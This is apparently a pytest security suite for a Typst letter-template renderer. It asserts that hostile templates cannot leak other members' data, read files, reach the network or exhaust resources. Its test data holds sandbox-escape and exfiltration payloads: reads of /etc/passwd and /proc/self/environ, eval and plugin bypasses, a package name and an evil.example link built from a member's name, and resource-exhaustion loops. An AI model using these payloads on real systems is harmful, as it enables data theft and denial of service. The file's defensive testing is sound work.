"""Hostile letter templates: none reaches another member, another file or the network, or takes the machine."""

import resource
import shutil
import socket
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

import pytest
from pypdf import PdfReader

from campaigns.core.child_process import run_in_child_process
from campaigns.core.errors import FilePosition, Problem, UserError
from campaigns.core.model.enums import Channel, Language, Purpose
from campaigns.rendering.checks.letter import check_letter
from campaigns.rendering.letters import letter_renderer
from campaigns.rendering.letters.letter_template import LetterTemplate
from campaigns.rendering.templates.folder import TemplateFolder, load_template_folder
from tests.support.sample_letters import ROOT, SETTINGS, WHEN, address, sample

pytestmark = [pytest.mark.child_process, pytest.mark.hostile]
KNOWN = frozenset({"member.first_name", "member.bonus_last_month", "member.household_size"})
MEMBERS = (("Aino", "Ensimmäinen"), ("Eino", "Keskimmäinen"), ("Outi", "Viimeinen"))
LETTER_FILE = "templates/post/win_back/letter.typ"
START = '#import "../_shared/layout.typ": *\n'

FolderWriter = Callable[..., TemplateFolder]


@pytest.fixture
def letter_folder(tmp_path: Path) -> FolderWriter:
    """Writer of a win-back template with another letter, and with other files beside it."""

    def write(letter: str, **files: str | bytes) -> TemplateFolder:
        shutil.copytree(ROOT / "templates/post", tmp_path / "templates/post", dirs_exist_ok=True)
        folder = tmp_path / "templates/post/win_back"
        (folder / "letter.typ").write_text(START + letter, "utf-8")
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            (folder / name.replace("_", ".")).write_bytes(data)
        return load_template_folder(tmp_path, Channel.POST, "win_back")

    return write


def body(printed: str) -> str:
    """Return a letter whose text is a Typst expression."""
    return f"#let letter(house, page) = letter-sheet(house, page, {{ {printed} }})\n"


def pages_of(template: LetterTemplate) -> list[Mapping[str, object]]:
    return [
        template.fill(sample("win_back", first_name=first), address(first_name=first, last_name=last))
        for first, last in MEMBERS
    ]


def letter_texts(folder: TemplateFolder) -> list[str]:
    """Return the text of each member's letter, all of one bundle."""
    template = LetterTemplate.compile(folder, Language.FI, SETTINGS)
    bundle = template.render_bundle(pages_of(template), WHEN)
    texts = [page.extract_text() for page in PdfReader(BytesIO(bundle.pdf)).pages]
    starts = [sum(bundle.page_counts[:index]) for index in range(len(MEMBERS))]
    return ["\n".join(texts[start : start + count]) for start, count in zip(starts, bundle.page_counts, strict=True)]


def assert_no_other_member(texts: list[str]) -> None:
    assert len(texts) == len(MEMBERS)
    for (_, own), text in zip(MEMBERS, texts, strict=True):
        for _, name in MEMBERS:
            assert (name in text) is (name == own)


REACHING = {
    "sys_inputs_pages": 'repr(json(bytes(sys.inputs.at("pages", default: "[]"))))',
    "all_sys_inputs": "repr(sys.inputs)",
    "module_sys_as_a_dictionary": "repr(dictionary(sys))",
    "state_that_collects_addresses": (
        'let all = state("all", ()); all.update(seen => seen + (page.address,)); context repr(all.get())'
    ),
    "final_value_of_a_state": (
        'let all = state("all", ()); all.update(seen => seen + (page.address,)); context repr(all.final())'
    ),
    "query_of_headings": "heading(page.address.first()); context query(heading).map(it => it.body).join()",
    "query_of_metadata": "[#metadata(page.address)<who>]; context repr(query(<who>).map(it => it.value))",
    "query_of_the_houses_labels": "context repr(query(<letter>).map(it => it.location().position()))",
    "query_before_here": (
        "[#metadata(page.address)<who>]; context repr(query(selector(<who>).before(here())).map(it => it.value))"
    ),
    "query_after_here": (
        "[#metadata(page.address)<who>]; context repr(query(selector(<who>).after(here())).map(it => it.value))"
    ),
    "query_of_all_texts": "context repr(query(selector.or(par, text, block, box, metadata)))",
    "query_of_paragraphs": "par(page.address.first()); context query(par).map(it => it.body).join()",
    "query_of_figures": "figure(page.address.first(), caption: [x]); context query(figure).map(it => it.body).join()",
    "query_of_footnotes": "footnote(page.address.first()); context query(footnote).map(it => it.body).join()",
    "outline_of_headings": "heading(page.address.first()); outline()",
    "outline_of_figures": (
        "figure(table(page.address.first()), caption: page.address.first()); outline(target: figure)"
    ),
    "counter_of_letters": (
        'let n = counter("n"); n.step(); context { if n.get().first() > 1 { "zweiter" }; repr(n.final()) }'
    ),
    "counter_that_carries_a_name": (
        'let n = counter("n"); for letter in page.address.first().codepoints() { n.update(str.to-unicode(letter)); '
        "context str(str.from-unicode(n.get().first())) }; context repr(n.final())"
    ),
    "locate_of_the_end": "[#metadata(page.address)<who>]; context repr(locate(<who>))",
    "here_and_page_of_others": "context repr((here().page(), counter(std.page).final()))",
    "reference_to_a_label_of_another": '[= #page.address.first() <who>]; set heading(numbering: "1"); [@who]',
    "show_rule_over_headings": (
        "show heading: it => context query(heading).map(h => h.body).join(); heading(page.address.first())"
    ),
    "show_rule_that_replaces_names": 'show "Ensimmäinen": "Viimeinen"; page.text.title',
    "read_of_the_values_by_file": 'repr(read("/page.json"))',
    "json_reader_of_the_bundle": 'repr(json("/pages.json"))',
    "csv_reader_of_the_bundle": 'repr(csv("/main.typ"))',
    "yaml_reader_of_the_values": 'repr(yaml("/page.json"))',
    "toml_reader_of_the_values": 'repr(toml("/page.json"))',
    "xml_reader_of_the_values": 'repr(xml("/page.json"))',
    "cbor_reader_of_the_values": 'repr(cbor("/page.json"))',
    "include_of_the_driver": 'include "/main.typ"',
    "import_of_the_driver": 'import "/main.typ": *; repr(json("/page.json"))',
    "import_of_the_letter_itself": 'import "/templates/post/win_back/letter.typ" as other; repr(other)',
    "read_of_the_sample": 'repr(read("sample.yaml"))',
    "read_of_the_texts": 'repr(read("texts.yaml"))',
    "read_of_the_password_file": 'read("/etc/passwd")',
    "read_of_the_process": 'read("/proc/self/environ")',
    "read_above_the_workspace": 'read("../../../../config/settings.yaml")',
    "image_of_another_file": 'image("/../../images/logo.png")',
    "eval_of_a_text": 'eval("sys.inputs")',
    "eval_through_std": 'std.eval("sys.inputs")',
    "eval_through_the_module_as_a_dictionary": 'dictionary(std).at("ev" + "al")("sys.inputs")',
    "eval_under_another_name": 'let run = eval; run("sys")',
    "std_under_another_name": "let all = std; repr(all)",
    "std_in_a_formula": "$2std.plugin$",
    "plugin_of_bytes": "plugin(bytes((0, 97, 115, 109, 1, 0, 0, 0)))",
    "plugin_through_std": "std.plugin(bytes((0, 97, 115, 109)))",
    "bibliography_that_runs_a_formula": 'bibliography(bytes(" @book{a, title={$#read(1)$}}")); cite(<a>)',
    "package_of_the_network": 'import "@preview/cetz:0.1.0": *',
    "package_with_a_name_put_together": 'let name = str.from-unicode(64) + "preview/cetz:0.1.0"; import name',
    "package_named_after_a_member": (
        'import str.from-unicode(64) + "preview/" + lower(page.address.first().slice(0, 4)) + ":0.1.0"'
    ),
    "bookmarks_of_all": (
        "set heading(bookmarked: true); heading(page.address.first()); context repr(query(heading).len())"
    ),
    "document_title": "context document.title; [#metadata(page.address)<t>]; context repr(query(<t>).len())",
    "measure_and_layout_loop": "layout(size => context { query(metadata).map(it => repr(it.value)).join() })",
}


@pytest.mark.parametrize("printed", REACHING.values(), ids=REACHING)
def test_a_letter_prints_no_other_member(letter_folder: FolderWriter, printed: str) -> None:
    texts: list[str] = []
    problems: tuple[Problem, ...] = ()
    try:
        texts = letter_texts(letter_folder(body(printed)))
    except UserError as error:
        problems = error.problems
    assert bool(texts) or len(problems) == 1
    assert all((problem.place.file, problem.place.line) == (LETTER_FILE, 2) for problem in problems)
    assert not any(last in str(problem) for _, last in MEMBERS for problem in problems)
    if texts and printed != REACHING["show_rule_that_replaces_names"]:  # it writes the other name itself
        assert_no_other_member(texts)


@pytest.mark.parametrize(
    ("printed", "own"),
    [
        (REACHING["query_of_metadata"], "Ensimmäinen"),
        (REACHING["final_value_of_a_state"], "Ensimmäinen"),
        (REACHING["read_of_the_values_by_file"], "Ensimmäinen"),
    ],
    ids=["query", "state", "read"],
)
def test_a_letter_still_reaches_the_values_of_its_own_member(
    letter_folder: FolderWriter, printed: str, own: str
) -> None:
    assert letter_texts(letter_folder(body(printed)))[0].count(own) > 1  # in the window, and where it was printed


DATA_FILES = {
    "yaml_that_is_also_code": ("data_yaml", "x: 1\n#let run = eval\n"),
    "text_that_is_also_code": ("data_txt", "#let p = plugin\n"),
    "picture_that_is_also_code": ("data_svg", "<svg xmlns='http://www.w3.org/2000/svg'/>\n$std.plugin$\n"),
    "second_letter_that_is_imported": ("other_typ", "#let run(text) = eval(text)\n"),
}


@pytest.mark.parametrize(("name", "content"), DATA_FILES.values(), ids=DATA_FILES)
def test_no_file_beside_a_letter_runs_code_made_of_texts(letter_folder: FolderWriter, name: str, content: str) -> None:
    folder = letter_folder(body("page.text.title"), **{name: content})
    with pytest.raises(UserError) as raised:
        LetterTemplate.compile(folder, Language.FI, SETTINGS)
    (problem,) = raised.value.problems
    assert (problem.code, problem.place.file) == (
        "typst_program",
        LETTER_FILE.replace("letter.typ", name.replace("_", ".")),
    )
    assert problem.hint


@pytest.mark.parametrize(
    "printed",
    ["panic(page.address)", "assert(false, message: page.address.last())", "int(page.address.first())"],
    ids=["panic", "assert", "conversion"],
)
def test_an_error_of_a_letter_names_no_member(letter_folder: FolderWriter, printed: str) -> None:
    with pytest.raises(UserError) as raised:
        letter_texts(letter_folder(body(printed)))
    assert not any(last in str(raised.value) or "00100" in str(raised.value) for _, last in MEMBERS)
    assert raised.value.problems[0].place == FilePosition(LETTER_FILE, 2, raised.value.problems[0].place.column)


ENDLESS = {
    "range_of_two_thousand_million": "range(0, 2000000000).len()",
    "loops_inside_loops": (
        "let n = 0; for a in range(9000) { for b in range(9000) { for c in range(9000) { n += 1 } } }; str(n)"
    ),
    "while_true": "while true {}",
    "while_of_a_variable": "let x = 1; while x > 0 { x += 1 }",
    "text_that_doubles": 'let x = "aaaaaaaaaa"; for _ in range(40) { x = x + x }; x',
    "text_times_a_number": '"x" * 2000000000',
    "list_that_doubles": "let x = (1,); for _ in range(40) { x = x + x }; x.len()",
    "list_times_a_number": "((1, 2, 3) * 2000000000).len()",
    "bytes_times_a_number": "bytes((0,) * 2000000000).len()",
    "recursion_without_an_end": "let f(x) = f(x + 1); f(1)",
    "content_that_doubles": "let x = [a]; for _ in range(40) { x = x + x }; x",
    "show_rule_that_shows_itself": "show heading: it => heading(it.body); heading[x]",
    "sheets_without_number": "for _ in range(9000) { pagebreak(weak: false); [x] }",
    "lorem_of_a_thousand_million": "lorem(1000000000)",
    "factorial_of_a_huge_number": "repr(range(1, 9000).fold(decimal(1), (a, b) => a * b))",
    "picture_that_unfolds": (
        "image(bytes(\"<svg xmlns='http://www.w3.org/2000/svg'><g id='a'><rect width='9' height='9'/></g>\""
        ' + range(1, 9).map(i => "<g id=\'" + str.from-unicode(97 + i) + "\'>"'
        ' + ("<use href=\'#" + str.from-unicode(96 + i) + "\'/>") * 30 + "</g>").join() + "</svg>"))'
    ),
    "table_of_a_million_rows": "table(columns: 1, ..range(3000000).map(str))",
    "state_that_never_settles": 'let s = state("s", 0); context { s.update(x => s.final() + 1); str(s.final()) }',
    "deeply_nested_brackets": "(" * 20000 + "1" + ")" * 20000,
}
ENDS = {"state_that_never_settles"}
"""Typst gives these up by itself, and draws the letter."""


@pytest.mark.parametrize("name", ENDLESS)
def test_a_letter_without_an_end_is_at_most_one_located_problem(
    letter_folder: FolderWriter, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(letter_renderer, "_START_SECONDS", 3)
    folder = letter_folder(body(ENDLESS[name]))
    problems = [
        problem
        for problem in check_letter(folder, Purpose.MARKETING, KNOWN, SETTINGS)
        if problem.code not in ("print_profile", "colophon")
    ]
    assert len(problems) == (name not in ENDS)
    assert all(problem.place.file == LETTER_FILE for problem in problems)
    assert all(problem.hint or problem.place.line for problem in problems)


def test_a_range_of_two_thousand_million_takes_a_gigabyte_at_most_and_ten_seconds(letter_folder: FolderWriter) -> None:
    """The parent stays small, the child is stopped, and a run reports the same as the check."""
    folder = letter_folder(body(ENDLESS["range_of_two_thousand_million"]))
    codes, parent, child = run_in_child_process(problems_and_memory, folder)
    assert codes == ["typst_limit"]
    assert parent < 50_000
    assert child < 1_000_000


def problems_and_memory(folder: TemplateFolder) -> tuple[list[str], int, int]:
    """Render a bundle; return its problems, and the kilobytes that this process grew by and that its child took.

    The system tells the most that any child of a process took, so it has to be a process without others.
    """
    template = LetterTemplate.compile(folder, Language.FI, SETTINGS)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(UserError) as raised:
        template.render_bundle(pages_of(template), WHEN)
    return (
        [problem.code for problem in raised.value.problems],
        resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before,
        resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss,
    )


def test_no_letter_holds_a_link_that_a_viewer_could_follow(letter_folder: FolderWriter) -> None:
    folder = letter_folder(body('link("https://evil.example/?n=" + page.address.first(), "x"); [https://evil.example]'))
    template = LetterTemplate.compile(folder, Language.FI, SETTINGS)
    pdf = template.render_bundle(pages_of(template), WHEN).pdf
    assert b"evil" not in pdf
    assert all("/Annots" not in page for page in PdfReader(BytesIO(pdf)).pages)


def test_no_metadata_of_a_bundle_names_a_member(letter_folder: FolderWriter) -> None:
    letter = (
        body("page.text.title") + '#set document(title: json("/page.json").address.first(), author: "Ensimmäinen")\n'
    )
    template = LetterTemplate.compile(letter_folder(letter), Language.FI, SETTINGS)
    bundle = PdfReader(BytesIO(template.render_bundle(pages_of(template), WHEN).pdf))
    assert not any(
        last in f"{bundle.metadata} {bundle.xmp_metadata and bundle.trailer['/Root']['/Metadata'].get_data().decode()}"
        for _, last in MEMBERS
    )


@pytest.mark.loopback
def test_a_letter_that_names_a_package_after_a_member_asks_nobody(
    letter_folder: FolderWriter, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as proxy:
        proxy.setblocking(False)
        for name in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
            monkeypatch.setenv(name, f"http://127.0.0.1:{proxy.getsockname()[1]}")
        with pytest.raises(UserError):
            letter_texts(letter_folder(body(REACHING["package_named_after_a_member"])))
        with pytest.raises(BlockingIOError):
            proxy.accept()
